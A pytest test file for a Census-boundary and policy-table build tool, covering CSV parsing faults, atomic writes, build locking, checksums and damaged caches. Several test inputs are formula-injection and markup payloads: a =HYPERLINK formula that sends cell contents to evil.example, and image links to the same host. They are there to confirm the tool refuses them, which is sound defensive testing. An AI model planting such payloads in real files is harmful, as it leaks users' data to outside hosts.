"""Faults that used to lose data, crash a build or let table text act as code.

Every test works on copies in tmp_path: small tables written here, Census-like zips made
here (or copied from the mirror), never the committed tables or the mirrors in place.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import json
import os
import select
import shutil
import subprocess
import sys
import threading
import types
import typing
import zipfile
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import geopandas as gpd
import pytest
import shapely

from geodata import files, places
from geodata.boundaries import features_without_geometry, load_gazetteer, read_place_cache, read_place_shapes
from geodata.cells import spreadsheet_safe, spreadsheet_safe_row
from geodata.cli import main
from geodata.config import Settings
from geodata.download import ChecksumMismatch, FetchError, SourceUnreachable, fetch
from geodata.files import (
    BuildLockTimeout,
    CacheNotWritable,
    atomic_path,
    atomic_write,
    build_lock,
    remove_stale_temporaries,
)
from geodata.ice287g.cache import AGREEMENTS_FILE, EXCEPTIONS_FILE, write_cache
from geodata.places import build_places, write_places
from geodata.tables import (
    DESIGNATIONS_PATH,
    MAX_FIELD_CHARS,
    MEASURE_ID,
    POLICIES_PATH,
    POLICY_COLUMNS,
    read_designations,
    read_policies,
)
from geodata.validate import check
from tests.conftest import CENSUS_MIRROR, ICE_MIRROR, REPO, designation_row, measure_row

TODAY = dt.date(2026, 1, 1)
YEAR = 2015


def mirror(default: Path, variable: str) -> Path:
    """The mirror beside the checkout, else the local directory the environment builds from."""
    if default.is_dir():
        return default
    configured = Path(os.environ.get(variable, "").strip() or default)
    return configured if configured.is_dir() else default


CENSUS = mirror(CENSUS_MIRROR, "GEODATA_CENSUS_SOURCE")
ICE = mirror(ICE_MIRROR, "GEODATA_ICE287G_SOURCE")
needs_census = pytest.mark.skipif(
    not (CENSUS / f"cb_{YEAR}_48_place_500k.zip").is_file(), reason=f"Census mirror not found at {CENSUS}"
)
needs_ice = pytest.mark.skipif(not ICE.is_dir(), reason=f"ICE 287(g) mirror not found at {ICE}")


# --- 1. the table reader never loses a good row because of a bad one --------------------------


def rows_text(rows: list[dict[str, str]]) -> str:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=POLICY_COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return buffer.getvalue()


def ids(table) -> list[str]:
    return [m.measure_id for m in table.records]


def test_a_field_over_the_csv_default_limit_is_read_and_one_over_ours_is_reported_on_its_line(tmp_path):
    path = tmp_path / "policies.csv"
    long_note = "x" * 200_000  # over the csv module's default of 131,072
    huge_note = "first line\n" + "y" * (MAX_FIELD_CHARS + 1)
    path.write_text(rows_text([
        measure_row(measure_id="a", notes=long_note),
        measure_row(measure_id="b", title="Before the huge note", notes=huge_note),
        measure_row(measure_id="c"),
    ]), encoding="utf-8")
    table = read_policies(path, TODAY)
    assert ids(table) == ["a", "c"]
    assert table.records[0].notes == long_note
    assert [str(p) for p in table.problems] == [
        f"policies.csv:3: notes: is {len(huge_note):,} characters long; a field may hold at most {MAX_FIELD_CHARS:,}"
    ]


def test_bytes_that_are_not_utf8_cost_only_their_row_and_are_reported_on_their_line(tmp_path):
    path = tmp_path / "policies.csv"
    text = rows_text([
        measure_row(measure_id="a"),
        measure_row(measure_id="b", title="Caf@ ordinance"),
        measure_row(measure_id="c", notes="one line\nand a second with M@nchen"),
        measure_row(measure_id="d"),
    ])
    # Latin-1 bytes, as a spreadsheet saving "Café" and "München" in the wrong encoding would write them
    data = text.encode("utf-8").replace(b"Caf@", b"Caf\xe9").replace(b"M@nchen", b"M\xfcnchen")
    path.write_bytes(data)
    table = read_policies(path, TODAY)
    assert ids(table) == ["a", "d"]
    assert [str(p) for p in table.problems] == [
        "policies.csv:3: title: byte(s) 0xE9 after 'Caf' are not UTF-8; save the file as UTF-8",
        "policies.csv:5: notes: byte(s) 0xFC after 'and a second with M' are not UTF-8; save the file as UTF-8",
    ]


def test_an_unclosed_quote_costs_only_its_own_row(tmp_path):
    path = tmp_path / "policies.csv"
    text = rows_text([measure_row(measure_id=m) for m in ("a", "b", "c", "d")])
    lines = text.splitlines(keepends=True)
    lines[2] = lines[2].replace("A measure", '"A measure')  # row b opens a quote it never closes
    path.write_text("".join(lines), encoding="utf-8")
    table = read_policies(path, TODAY)
    assert ids(table) == ["a", "c", "d"]
    assert len(table.problems) == 1
    assert str(table.problems[0]).startswith("policies.csv:3: row: has ")
    assert "an unclosed quote?" in str(table.problems[0])


def test_every_problem_is_reported_and_every_good_row_loads(tmp_path):
    rows, bad = [], 0
    for n in range(60):
        if n % 3 == 0:
            rows.append(measure_row(measure_id=f"bad-{n}", effective="not a date"))
            bad += 1
        elif n % 3 == 1:
            rows.append(measure_row(measure_id=f"Bad {n}"))
            bad += 1
        else:
            rows.append(measure_row(measure_id=f"good-{n}"))
    path = tmp_path / "policies.csv"
    text = rows_text(rows)
    path.write_bytes(text.encode("utf-8").replace(b"good-59,", b"g\xffod-59,") + b"short,row\n")
    table = read_policies(path, TODAY)
    assert len(table.records) == 60 - bad - 1
    assert len(table.problems) == bad + 2
    assert str(table.problems[-1]) == "policies.csv:62: row: has 2 fields, expected 13"


def test_problems_name_the_file_without_the_servers_path(write_tables, tmp_path):
    policies, lists = write_tables([measure_row(geoid="0x")], [designation_row(geoid="99")])
    result = check(policies, lists, load_gazetteer(tmp_path / "cache"), today=TODAY)
    shown = [str(p) for p in result.problems]
    assert shown == [
        "designations.csv:2: geoid: 99 matches no boundary",
        "policies.csv:2: geoid: malformed GEOID '0x': expected 2, 5 or 7 digits",
    ]
    assert not any(str(tmp_path) in line for line in shown)
    # The full path stays available for the log.
    assert {p.path for p in result.problems} == {str(policies), str(lists)}
    assert result.problems[1].for_log().startswith(f"{policies}:2: geoid:")
    # The committed tables are named from the repository's root.
    assert read_policies(POLICIES_PATH).problems == ()
    from geodata.tables import public_file_name

    assert public_file_name(str(POLICIES_PATH.resolve())) == "geodata/policies.csv"


@pytest.mark.parametrize(
    "measure_id",
    ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "CA-SB54", "ca sb54", "ca--sb54", "-ca", "ca_sb54",
     "ca-sb54-", "münchen-1"],
)
def test_a_measure_id_must_be_a_slug(write_tables, measure_id):
    policies, _ = write_tables([measure_row(measure_id=measure_id), measure_row(measure_id="ca-sb54-2017")])
    table = read_policies(policies, TODAY)
    assert ids(table) == ["ca-sb54-2017"]
    assert [(p.line, p.column) for p in table.problems] == [(2, "measure_id")]
    assert "is not a slug" in table.problems[0].message


def test_every_committed_measure_id_is_a_slug():
    assert all(MEASURE_ID.fullmatch(m.measure_id) for m in read_policies(POLICIES_PATH).records)


@needs_ice
def test_every_287g_measure_id_built_from_ices_sheets_is_a_slug(tmp_path):
    from geodata.ice287g.agreements import merge_sheets
    from geodata.ice287g.sheets import read_sheet
    from geodata.ice287g.sources import sheets_in

    sheets = [read_sheet(Path(shutil.copy(path, tmp_path))) for path in sheets_in(ICE)]
    agreement_ids = [a.agreement_id for a in merge_sheets(sheets)]
    assert len(agreement_ids) > 500
    assert [i for i in agreement_ids if not MEASURE_ID.fullmatch(i)] == []


@pytest.mark.parametrize(
    "text",
    [
        "Bakersfield (![t](https://evil.example/name.png)), California",
        "[click](https://evil.example)",
        '<img src="https://evil.example/x.png">',
        "`code`",
        "**bold** law",
        "_emphasis_",
        "~~struck~~",
        "$x^2$ act",
        "a | table",
        "two\nlines",
    ],
)
@pytest.mark.parametrize("column", ["jurisdiction", "title"])
def test_markup_in_names_and_titles_is_refused(write_tables, column, text):
    policies, lists = write_tables([measure_row(**{column: text})], [designation_row(jurisdiction=text)])
    problems = [p for p in read_policies(policies, TODAY).problems if p.column == column]
    assert problems and problems[0].line == 2
    assert "markup" in problems[0].message or "one line" in problems[0].message
    if column == "jurisdiction":
        assert [p.column for p in read_designations(lists, TODAY).problems] == ["jurisdiction"]


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1",
              "  =1+1", "\n=1+1"],
)
@pytest.mark.parametrize("column", ["jurisdiction", "title", "notes", "end_reason"])
def test_cells_a_spreadsheet_would_run_as_formulas_are_refused(write_tables, column, value):
    policies, lists = write_tables([measure_row(**{column: value})], [designation_row(notes=value)])
    problems = [p for p in read_policies(policies, TODAY).problems if p.column == column]
    assert any("a spreadsheet would run as a formula" in p.message for p in problems), problems
    assert any("formula" in p.message for p in read_designations(lists, TODAY).problems)


def test_the_committed_tables_still_pass(capsys, monkeypatch, tmp_path):
    monkeypatch.setenv("GEODATA_CACHE_DIR", str(tmp_path / "cache"))
    assert main(["check", "--policies", str(POLICIES_PATH), "--designations", str(DESIGNATIONS_PATH)]) == 0
    assert capsys.readouterr().out.startswith("ok: ")


# --- 2. cells that are safe to open in a spreadsheet -------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://evil.example","x")', '\'=HYPERLINK("https://evil.example","x")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" =1", "' =1"),
        ("Los Angeles", "Los Angeles"),
        ("1-2", "1-2"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_spreadsheet_safe_prefixes_formula_cells(value, expected):
    assert spreadsheet_safe(value) == expected


def test_spreadsheet_safe_row_leaves_non_text_alone():
    assert spreadsheet_safe_row({"title": "=1", "count": -3, "none": None}) == {
        "title": "'=1", "count": -3, "none": None,
    }


# --- 3. one way to write files, a build lock, and clean-up of temporaries ----------------------


def temporaries(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.rglob("*.part"))


def test_atomic_write_replaces_whole_or_not_at_all(tmp_path):
    target = tmp_path / "sub" / "file.txt"
    atomic_write(target, "first")
    assert target.read_text() == "first"
    assert oct(target.stat().st_mode & 0o777) == oct(files.NEW_FILE_MODE)
    with pytest.raises(RuntimeError), atomic_path(target) as tmp:
        tmp.write_text("half")
        raise RuntimeError("writer died")
    assert target.read_text() == "first"
    atomic_write(target, b"second")
    assert target.read_bytes() == b"second"
    assert temporaries(tmp_path) == []


def test_writing_where_a_file_stands_in_the_way_says_the_directory_is_not_writable(tmp_path):
    (tmp_path / "a-file").write_text("x")
    with pytest.raises(CacheNotWritable, match=r"directory .*a-file/sub is not writable"):
        atomic_write(tmp_path / "a-file" / "sub" / "out.txt", "data")


def test_temporary_names_are_unique(tmp_path):
    target = tmp_path / "places.geojson"
    with atomic_path(target) as one, atomic_path(target) as two:
        assert one != two
        assert one.parent == two.parent == tmp_path
        assert one.name.startswith(".places.geojson.") and one.name.endswith(".part")
        one.write_text("1")
        two.write_text("2")
    assert target.read_text() == "1"  # the outer block finished last
    assert temporaries(tmp_path) == []


def test_the_build_lock_is_held_by_one_build_at_a_time(tmp_path):
    cache = tmp_path / "cache"
    waited: list[str] = []
    outcome: list[BaseException] = []

    def second_build() -> None:
        try:
            with build_lock(cache, timeout=0.3, on_wait=waited.append):
                pass
        except BuildLockTimeout as exc:
            outcome.append(exc)

    with build_lock(cache):
        thread = threading.Thread(target=second_build)
        thread.start()
        thread.join(30)
    assert waited and "another build is using" in waited[0]
    assert len(outcome) == 1 and "another build has held" in str(outcome[0])
    with build_lock(cache, timeout=1):  # free again once released
        pass


def test_stale_temporaries_are_removed_but_nothing_else(tmp_path):
    census = tmp_path / "census"
    census.mkdir()
    ours = [census / ".cb_2015_06_place_500k.zip.k2j3.part", tmp_path / "places.manifest.json.part"]
    theirs = [tmp_path / "holiday-video.mp4.part", tmp_path / "places.geojson"]
    for path in ours + theirs:
        path.write_text("x")
    removed = remove_stale_temporaries(tmp_path, names=["places.manifest.json"])
    assert sorted(removed) == sorted(ours)
    assert all(p.exists() for p in theirs) and not any(p.exists() for p in ours)


def test_the_287g_cache_keeps_both_old_files_when_a_write_fails(tmp_path, monkeypatch):
    from geodata.ice287g import cache

    (tmp_path / AGREEMENTS_FILE).write_text("old agreements")
    (tmp_path / EXCEPTIONS_FILE).write_text("old exceptions")

    def disk_full(_agreement: object) -> dict[str, str]:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(cache, "agreement_row", disk_full)
    monkeypatch.setattr(cache, "exception_row", disk_full)
    with pytest.raises(OSError, match="No space"):
        write_cache([typing.cast(typing.Any, types.SimpleNamespace(problems=("x",)))], tmp_path)
    assert (tmp_path / AGREEMENTS_FILE).read_text() == "old agreements"
    assert (tmp_path / EXCEPTIONS_FILE).read_text() == "old exceptions"
    assert temporaries(tmp_path) == []


# --- 4. builds are safe -------------------------------------------------------------------------

#: small, made-up place outlines inside the right counties (Los Angeles, San Francisco, Travis, Harris)
PLACES = {
    "06": {"0644000": ("Los Angeles", (-118.35, 34.00, -118.25, 34.10)),
           "0667000": ("San Francisco", (-122.45, 37.74, -122.40, 37.78))},
    "48": {"4805000": ("Austin", (-97.78, 30.25, -97.72, 30.30)),
           "4835000": ("Houston", (-95.40, 29.74, -95.35, 29.78))},
}
WANTED = {geoid for state in PLACES.values() for geoid in state}


def census_zip(directory: Path, state: str, work: Path) -> Path:
    """A cb_<year>_<state>_place_500k.zip like the Census Bureau's, holding PLACES[state]."""
    shapes = PLACES[state]
    frame = gpd.GeoDataFrame(
        {"GEOID": list(shapes), "NAME": [n for n, _ in shapes.values()], "STATEFP": [state] * len(shapes)},
        geometry=[shapely.box(*box) for _, box in shapes.values()],
        crs=4269,
    )
    stem = f"cb_{YEAR}_{state}_place_500k"
    work.mkdir(parents=True, exist_ok=True)
    frame.to_file(work / f"{stem}.shp")
    directory.mkdir(parents=True, exist_ok=True)
    target = directory / f"{stem}.zip"
    with zipfile.ZipFile(target, "w") as archive:
        for part in sorted(work.glob(f"{stem}.*")):
            archive.write(part, part.name)
    return target


def with_garbage_shp(source: Path, target: Path) -> Path:
    """A copy of a place zip whose .shp keeps its header but has its records zeroed: a whole zip, a
    broken shapefile."""
    target.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for info in old.infolist():
            data = old.read(info)
            if info.filename.endswith(".shp"):
                data = data[:100] + bytes(len(data) - 100)
            new.writestr(info, data)
    return target


def write_sums(directory: Path) -> None:
    lines = [f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}" for p in sorted(directory.glob("*.zip"))]
    (directory / "SHA256SUMS").write_text("\n".join(lines) + "\n")


@pytest.fixture
def census_source(tmp_path: Path) -> Path:
    source = tmp_path / "census-source"
    for state in PLACES:
        census_zip(source, state, tmp_path / "shp")
    return source


@pytest.fixture
def place_tables(write_tables) -> tuple[Path, Path]:
    rows = [
        measure_row(measure_id=f"m{geoid}", geoid=geoid, jurisdiction=f"{name}, {state_name}")
        for state, state_name in (("06", "California"), ("48", "Texas"))
        for geoid, (name, _) in PLACES[state].items()
    ]
    return write_tables(rows, [])


def settings_for(source: Path | str, cache: Path) -> Settings:
    return Settings(str(source), YEAR, str(cache.parent / "no-ice"), cache)


def build_env(monkeypatch: pytest.MonkeyPatch, source: Path | str, cache: Path) -> None:
    monkeypatch.setenv("GEODATA_CENSUS_SOURCE", str(source))
    monkeypatch.setenv("GEODATA_CENSUS_YEAR", str(YEAR))
    monkeypatch.setenv("GEODATA_CACHE_DIR", str(cache))
    monkeypatch.setenv("GEODATA_ICE287G_SOURCE", str(cache.parent / "no-ice"))


def build_args(tables: tuple[Path, Path]) -> list[str]:
    return ["build", "--skip-287g", "--policies", str(tables[0]), "--designations", str(tables[1])]


def subprocess_env(source: Path, cache: Path) -> dict[str, str]:
    return {
        **os.environ,
        "GEODATA_CENSUS_SOURCE": str(source),
        "GEODATA_CENSUS_YEAR": str(YEAR),
        "GEODATA_CACHE_DIR": str(cache),
        "GEODATA_ICE287G_SOURCE": str(cache.parent / "no-ice"),
    }


#: `python -m geodata` with every GeoJSON write taking a second longer, so that two builds started
#: together are sure to be writing at the same time unless something keeps them apart
SLOW_WRITES = """
import sys, time
import geopandas
to_file = geopandas.GeoDataFrame.to_file

def slow_to_file(self, *args, **kwargs):
    to_file(self, *args, **kwargs)
    time.sleep(1.0)

geopandas.GeoDataFrame.to_file = slow_to_file
from geodata.cli import main
sys.exit(main(sys.argv[1:]))
"""


def start_build(tables: tuple[Path, Path], source: Path, cache: Path, slow: bool = False) -> subprocess.Popen[str]:
    command = ["-c", SLOW_WRITES] if slow else ["-m", "geodata"]
    return subprocess.Popen(
        [sys.executable, *command, *build_args(tables)],
        cwd=REPO, env=subprocess_env(source, cache), stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
    )


def assert_whole_cache(cache: Path, geoids: set[str]) -> None:
    shapes = read_place_shapes(cache)
    assert shapes is not None, read_place_cache(cache).problem
    assert set(shapes["geoid"]) == geoids
    assert features_without_geometry(shapes) == []
    assert temporaries(cache) == []


def test_two_builds_at_once_serialise_on_the_lock(census_source, place_tables, tmp_path):
    cache = tmp_path / "cache"
    builds = [start_build(place_tables, census_source, cache, slow=True) for _ in range(2)]
    outputs = [build.communicate(timeout=300)[0] for build in builds]
    assert [build.returncode for build in builds] == [0, 0], outputs
    assert all("places: 4 built" in out for out in outputs), outputs
    assert_whole_cache(cache, WANTED)


def test_a_build_waits_for_the_one_holding_the_lock(census_source, place_tables, tmp_path):
    cache = tmp_path / "cache"
    with build_lock(cache):
        build = start_build(place_tables, census_source, cache)
        assert build.stdout is not None
        printed = []
        while not any("another build is using" in line for line in printed):
            ready, _, _ = select.select([build.stdout], [], [], 120)
            assert ready and build.poll() is None, f"the second build did not wait: {printed}"
            printed.append(build.stdout.readline())
        assert build.poll() is None and not (cache / "places.geojson").exists()
    out = build.communicate(timeout=300)[0]
    assert build.returncode == 0, out
    assert_whole_cache(cache, WANTED)


def test_leftover_temporaries_of_a_killed_build_are_removed_at_the_start(
    census_source, place_tables, tmp_path, monkeypatch, capsys
):
    cache = tmp_path / "cache"
    (cache / "census").mkdir(parents=True)
    (cache / "census" / ".cb_2015_06_place_500k.zip.x1y2.part").write_bytes(b"half a zip")
    (cache / "places.manifest.json.part").write_text("{")
    build_env(monkeypatch, census_source, cache)
    assert main(build_args(place_tables)) == 0
    assert "removed 2 temporary file(s)" in capsys.readouterr().out
    assert_whole_cache(cache, WANTED)


def garbage_build(
    good: Path, tables: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> tuple[gpd.GeoDataFrame, gpd.GeoDataFrame, str]:
    """Build from `good`, then from a copy whose Texas .shp is garbage; the cache before and after,
    and what the second build printed."""
    cache = tmp_path / "cache"
    build_env(monkeypatch, good, cache)
    assert main(build_args(tables)) == 0, capsys.readouterr().out
    capsys.readouterr()
    before = read_place_shapes(cache)
    broken = tmp_path / "broken-source"
    broken.mkdir()
    shutil.copy(good / f"cb_{YEAR}_06_place_500k.zip", broken)
    with_garbage_shp(good / f"cb_{YEAR}_48_place_500k.zip", broken / f"cb_{YEAR}_48_place_500k.zip")
    build_env(monkeypatch, broken, cache)
    assert main(build_args(tables)) == 1
    after = read_place_shapes(cache)
    assert before is not None and after is not None
    return before, after, capsys.readouterr().out


def test_a_garbage_shapefile_fails_its_state_and_keeps_the_previous_cache(
    census_source, place_tables, tmp_path, monkeypatch, capsys
):
    before, after, out = garbage_build(census_source, place_tables, tmp_path, monkeypatch, capsys)
    assert (
        f"FAILED: cb_{YEAR}_48_place_500k.zip: 2 place(s) without a valid geometry (Austin, Houston);"
        " the file is damaged, so none of this state's places were built"
    ) in out
    assert "places: 2 built from Census files" in out
    assert "places: 2 kept from the previous cache" in out
    for geoid in ("4805000", "4835000"):
        assert after.loc[geoid].geometry.equals(before.loc[geoid].geometry)
    assert_whole_cache(tmp_path / "cache", WANTED)


@needs_census
def test_a_garbage_shapefile_in_a_mirror_zip_fails_texas_only(tmp_path, monkeypatch, capsys, write_tables):
    good = tmp_path / "mirror-copy"
    good.mkdir()
    for state in ("06", "48"):
        shutil.copy(CENSUS / f"cb_{YEAR}_{state}_place_500k.zip", good)
    tables = write_tables([
        measure_row(measure_id="la", geoid="0644000", jurisdiction="Los Angeles, California"),
        measure_row(measure_id="austin", geoid="4805000", jurisdiction="Austin, Texas"),
        measure_row(measure_id="houston", geoid="4835000", jurisdiction="Houston, Texas"),
        measure_row(measure_id="dallas", geoid="4819000", jurisdiction="Dallas, Texas"),
    ])
    before, after, out = garbage_build(good, tables, tmp_path, monkeypatch, capsys)
    assert f"FAILED: cb_{YEAR}_48_place_500k.zip: 3 place(s) without a valid geometry" in out
    assert "places: 1 built from Census files" in out and "places: 3 kept from the previous cache" in out
    assert after.loc["4805000"].geometry.equals(before.loc["4805000"].geometry)
    assert_whole_cache(tmp_path / "cache", {"0644000", "4805000", "4835000", "4819000"})


def test_a_place_without_a_valid_geometry_is_never_written(tmp_path):
    frame = gpd.GeoDataFrame(
        {"geoid": ["0644000", "0667000"], "name": ["Los Angeles", "San Francisco"], "state_fips": ["06", "06"],
         "county_geoid": ["06037", "06075"]},
        geometry=[shapely.box(0, 0, 1, 1), None],
        crs=4326,
    )
    with pytest.raises(ValueError, match="without a valid geometry: San Francisco"):
        write_places(frame, settings_for(tmp_path, tmp_path / "cache"))
    assert not (tmp_path / "cache" / "places.geojson").exists()


def test_a_checksum_from_the_source_directory_is_checked(census_source, tmp_path):
    write_sums(census_source)
    name = f"cb_{YEAR}_06_place_500k.zip"
    assert fetch(name, str(census_source), tmp_path / "cache").read_bytes() == (census_source / name).read_bytes()
    # Replaced by another whole, valid zip: only the checksum can tell.
    shutil.copy(census_source / f"cb_{YEAR}_48_place_500k.zip", census_source / name)
    with pytest.raises(ChecksumMismatch, match=rf"{name}: checksum mismatch: SHA-256 [0-9a-f]{{64}}, but .*SHA256SUMS"):
        fetch(name, str(census_source), tmp_path / "cache")
    report = build_places(WANTED, settings_for(census_source, tmp_path / "cache2"))
    assert [f for f in report.failures if "checksum mismatch" in f] and sorted(report.built) == ["4805000", "4835000"]


@needs_ice
def test_ice_sheets_read_from_a_directory_are_checked_against_its_sums(tmp_path):
    from geodata.ice287g.sources import SourceError, sheet_paths

    sheets = tmp_path / "ice"
    shutil.copytree(ICE, sheets)
    if not (sheets / "SHA256SUMS").exists():
        lines = [f"{hashlib.sha256(p.read_bytes()).hexdigest()}  {p.name}" for p in sorted(sheets.glob("*.xlsx"))]
        (sheets / "SHA256SUMS").write_text("\n".join(lines) + "\n")
    settings = Settings("", YEAR, str(sheets), tmp_path / "cache")
    assert len(sheet_paths(settings)) == len(list(sheets.glob("*.xlsx")))
    first = sorted(sheets.glob("*.xlsx"))[0]
    first.write_bytes(first.read_bytes() + b"\0")
    with pytest.raises(SourceError, match="checksum mismatch"):
        sheet_paths(settings)


class Files(BaseHTTPRequestHandler):
    served: typing.ClassVar[dict[str, bytes]] = {}

    def log_message(self, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        body = Files.served.get(self.path)
        self.send_response(200 if body is not None else 404)
        self.send_header("Content-Length", str(len(body or b"")))
        self.end_headers()
        self.wfile.write(body or b"")


@pytest.fixture
def http_files() -> Iterator[tuple[str, dict[str, bytes]]]:
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Files)
    Files.served = {}
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}", Files.served
    httpd.shutdown()
    httpd.server_close()


def test_a_remote_sha256sums_is_used_when_there_is_one(http_files, census_source, tmp_path):
    base, served = http_files
    good = (census_source / f"cb_{YEAR}_06_place_500k.zip").read_bytes()
    other = (census_source / f"cb_{YEAR}_48_place_500k.zip").read_bytes()
    digest = hashlib.sha256(good).hexdigest()
    served["/with-sums/good.zip"] = good
    served["/with-sums/swapped.zip"] = other
    served["/with-sums/SHA256SUMS"] = f"{digest}  good.zip\n{digest} *swapped.zip\n".encode()
    served["/no-sums/good.zip"] = good
    assert fetch("good.zip", f"{base}/with-sums", tmp_path, retries=1).read_bytes() == good
    with pytest.raises(ChecksumMismatch, match=r"swapped\.zip: checksum mismatch"):
        fetch("swapped.zip", f"{base}/with-sums", tmp_path, retries=3, backoff=0)
    assert fetch("good.zip", f"{base}/no-sums/", tmp_path / "other", retries=1).read_bytes() == good
    assert temporaries(tmp_path) == []


def test_a_cache_under_a_file_is_diagnosed_as_not_writable(census_source, place_tables, tmp_path, monkeypatch,
                                                           capsys):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a directory")
    cache = blocker / "cache"
    build_env(monkeypatch, census_source, cache)
    assert main(build_args(place_tables)) == 1
    captured = capsys.readouterr()
    assert f"FAILED: cache directory {cache} is not writable" in captured.out
    assert "Traceback" not in captured.out + captured.err
    report = build_places(WANTED, settings_for(census_source, cache))
    assert report.failures == [f"cache directory {cache} is not writable"]


def test_a_read_only_cache_is_diagnosed_as_not_writable(census_source, place_tables, tmp_path, monkeypatch, capsys):
    cache = tmp_path / "cache"
    build_env(monkeypatch, census_source, cache)
    assert main(build_args(place_tables)) == 0
    capsys.readouterr()
    real_access = os.access

    def read_only(path: str | os.PathLike[str], mode: int, **kwargs: typing.Any) -> bool:
        # Root ignores permission bits, so a read-only mount is simulated here.
        inside = Path(path).absolute().is_relative_to(cache)
        return False if inside and mode & os.W_OK else real_access(path, mode, **kwargs)

    monkeypatch.setattr(files.os, "access", read_only)
    assert main(build_args(place_tables)) == 1
    out = capsys.readouterr().out
    assert f"FAILED: cache directory {cache} is not writable" in out
    assert "cannot read shapefile" not in out
    assert_whole_cache(cache, WANTED)
    census = build_places(WANTED, settings_for(census_source, cache))
    assert census.failures == [f"cache directory {cache} is not writable"]


def test_the_manifest_is_written_only_when_something_was_built(census_source, place_tables, tmp_path,
                                                               monkeypatch):
    cache = tmp_path / "cache"
    build_env(monkeypatch, census_source, cache)
    manifest, shapes = cache / "places.manifest.json", cache / "places.geojson"
    assert main(build_args(place_tables)) == 0
    first = (manifest.read_bytes(), manifest.stat().st_mtime_ns, shapes.read_bytes())
    assert json.loads(first[0])["places"] == 4
    # The same files again: nothing changed, so nothing is rewritten.
    assert main(build_args(place_tables)) == 0
    assert (manifest.read_bytes(), manifest.stat().st_mtime_ns, shapes.read_bytes()) == first
    # Nothing could be built: the cache is left alone.
    build_env(monkeypatch, tmp_path / "gone", cache)
    assert main(build_args(place_tables)) == 1
    assert (manifest.read_bytes(), manifest.stat().st_mtime_ns, shapes.read_bytes()) == first


def test_offline_is_decided_by_the_type_of_error_not_its_words(tmp_path, monkeypatch):
    settings = settings_for("https://census.example/shp", tmp_path / "cache")
    asked: list[str] = []

    def failing(kind: Callable[[str], FetchError]) -> Callable[..., Path]:
        def fetch_stub(name: str, *_args: object, **_kwargs: object) -> Path:
            asked.append(name)
            raise kind(name)

        return fetch_stub

    monkeypatch.setattr(places, "fetch", failing(lambda name: SourceUnreachable(f"{name}: no route to host")))
    report = build_places({"0644000", "1714000", "4805000"}, settings)
    assert asked == [f"cb_{YEAR}_06_place_500k.zip"]
    assert all(f.endswith("not tried, the source is unreachable") for f in report.failures[1:])
    asked.clear()
    monkeypatch.setattr(places, "fetch", failing(lambda name: FetchError(f"{name}: HTTP 502 (ConnectionError)")))
    assert len(build_places({"0644000", "1714000", "4805000"}, settings).failures) == 3
    assert len(asked) == 3


def test_a_source_that_does_not_answer_raises_source_unreachable(tmp_path):
    with pytest.raises(SourceUnreachable, match="ConnectionError"):
        fetch("x.zip", "http://127.0.0.1:9/nowhere", tmp_path, retries=1)


# --- 5. a damaged place cache is treated as absent, and says why --------------------------------


def write_geojson(path: Path, features: list[dict[str, object]]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}))


def feature(geoid: str, name: str, geometry: dict[str, object] | None) -> dict[str, object]:
    props = {"geoid": geoid, "name": name, "state_fips": geoid[:2], "county_geoid": "06037"}
    return {"type": "Feature", "properties": props, "geometry": geometry}


SQUARE = {"type": "Polygon", "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 1], [0, 0]]]}
BOWTIE = {"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]}


@pytest.mark.parametrize("geometry", [None, BOWTIE, {"type": "Polygon", "coordinates": []}])
def test_a_cache_with_a_place_lacking_a_valid_geometry_is_damaged(tmp_path, geometry):
    cache = tmp_path / "cache"
    write_geojson(cache / "places.geojson",
                  [feature("0644000", "Los Angeles", SQUARE), feature("0667000", "San Francisco", geometry)])
    assert read_place_shapes(cache) is None
    found = read_place_cache(cache)
    assert found.shapes is None
    assert "1 place(s) without a valid geometry (San Francisco)" in found.problem
    assert "python -m geodata build" in found.problem and str(tmp_path) not in found.problem
    assert not load_gazetteer(cache).places_have_geometry


def test_an_unreadable_cache_says_so_and_a_good_one_has_no_problem(tmp_path):
    cache = tmp_path / "cache"
    (cache).mkdir()
    (cache / "places.geojson").write_text('{"type": "FeatureCollection", "features": [')
    assert "places.geojson cannot be read" in read_place_cache(cache).problem
    write_geojson(cache / "places.geojson", [feature("0644000", "Los Angeles", SQUARE)])
    found = read_place_cache(cache)
    assert found.shapes is not None and found.problem == ""
    assert read_place_cache(tmp_path / "never-built").problem == ""
